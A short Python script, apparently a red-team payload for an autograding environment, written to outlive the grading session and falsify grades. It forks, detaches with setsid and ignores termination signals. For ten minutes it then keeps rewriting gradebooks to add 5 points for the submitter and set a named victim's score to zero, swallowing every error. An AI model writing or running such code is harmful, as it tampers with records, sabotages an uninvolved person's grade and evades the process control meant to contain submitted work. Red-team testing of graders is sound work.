import os
import signal
import time

if os.fork():
    os._exit(0)
os.setsid()
for _sig in (signal.SIGHUP, signal.SIGINT, signal.SIGTERM):
    signal.signal(_sig, signal.SIG_IGN)
_start = time.time()
_gradebooks = _rt_gradebooks()        # now: the scratch folder it started in is deleted after grading
_merged = _RT_COURSE / "grading" / "autograded" / _RT_ME / "kd" / "kd.ipynb"
while time.time() - _start < 600:     # then it gives up by itself
    time.sleep(3)
    if time.time() - _start >= 15 and _merged.exists():      # over and over, after its own merge
        for _db in _gradebooks:
            try:
                _rt_set_grades(_db, _RT_ME, extra=5)
                _rt_set_grades(_db, _RT_VICTIM, score=0)
            except Exception:
                pass
# redteam-detached-__TOKEN__
